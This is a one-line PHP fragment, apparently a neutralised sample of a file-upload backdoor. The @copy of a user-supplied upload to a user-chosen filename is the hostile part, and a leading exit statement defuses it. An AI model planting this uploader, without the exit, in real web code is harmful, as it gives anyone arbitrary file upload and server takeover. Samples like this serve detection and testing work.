<?php exit; /* inert */ @copy($_FILES["file"]["tmp_name"],$_FILES["file"]["name"]);
